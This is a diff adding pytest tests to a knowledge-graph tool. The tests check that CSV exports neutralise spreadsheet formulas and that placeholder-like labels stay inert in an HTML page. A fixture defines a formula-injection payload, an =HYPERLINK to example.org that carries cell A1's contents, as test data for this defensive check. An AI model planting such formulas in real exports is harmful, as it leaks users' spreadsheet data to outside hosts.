@@ -519,3 +519,77 @@ def test_a_quick_query_is_answered_as_before(mini_out):
         "sparql", "SELECT ?x WHERE { ?x a gk:Network }", "--format", "csv", "--graph", mini_out
     )
     assert done.returncode == 0 and done.stdout == "x\nhttps://w3id.org/graphkit/id/net-al-las\n"
+
+
+# --- data that looks like a formula or a template placeholder ---------------------------------
+FORMULA = '=HYPERLINK("http://example.org/?"&A1,"x")'
+
+
+@pytest.fixture(scope="module")
+def formula_out(tmp_path_factory):
+    root = tmp_path_factory.mktemp("formula")
+    shutil.copytree(MINI, root / "data")
+    actors = root / "data" / "actors.csv"
+    quoted = '"' + FORMULA.replace('"', '""') + '"'
+    actors.write_text(
+        actors.read_text().replace("Morón,Morón,Municipio", f"{quoted},Morón,Municipio", 1)
+    )
+    return built(root, root / "data")
+
+
+def csv_cells(text: str) -> list[str]:
+    import csv
+    import io
+
+    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]
+
+
+def test_csv_out_neutralises_formulas_in_every_writer(formula_out, tmp_path):
+    outputs = {
+        "--format csv": gk("invite", "--format", "csv", "--graph", formula_out).stdout,
+        "sparql": gk(
+            "sparql",
+            "SELECT ?l WHERE { gkd:ar-moron rdfs:label ?l }",
+            "--format",
+            "csv",
+            "--graph",
+            formula_out,
+        ).stdout,
+    }
+    assert (
+        gk("report", "repertoire", "--out", tmp_path / "r.csv", "--graph", formula_out).returncode
+        == 0
+    )
+    outputs["report"] = (tmp_path / "r.csv").read_text()
+    for where, text in outputs.items():
+        cells = csv_cells(text)
+        assert "'" + FORMULA in cells, where
+        assert not [c for c in cells if c.startswith(("=", "+", "@"))], where
+
+
+def test_csv_out_keeps_negative_numbers_as_numbers(mini_out):
+    done = gk(
+        "sparql",
+        "SELECT ?long WHERE { gkd:city-ar-moron geo:long ?long }",
+        "--format",
+        "csv",
+        "--graph",
+        mini_out,
+    )
+    (value,) = csv_cells(done.stdout)[1:]
+    assert float(value) < -50  # Morón, west of Greenwich: a number, not "'-58.6"
+
+
+@pytest.mark.parametrize("label", ["@@VIS_JS@@", "$vis_js", "${data} $title"])
+def test_a_label_that_looks_like_a_placeholder_stays_a_label(tmp_path, mini, label):
+    from graphkit.viz.page import viz
+
+    actors = mini / "actors.csv"
+    actors.write_text(
+        actors.read_text().replace("Morón,Morón,Municipio", f"{label},Morón,Municipio", 1)
+    )
+    page = viz(graphkit.from_tables(mini))
+    start = page.html.index('id="graph-data">') + len('id="graph-data">')
+    data = json.loads(page.html[start : page.html.index("</script>", start)])
+    assert label in [n.get("label") for n in data["nodes"]]
+    assert len(page.html) < 2 * len(viz(graphkit.from_tables(MINI)).html)  # no code pasted in
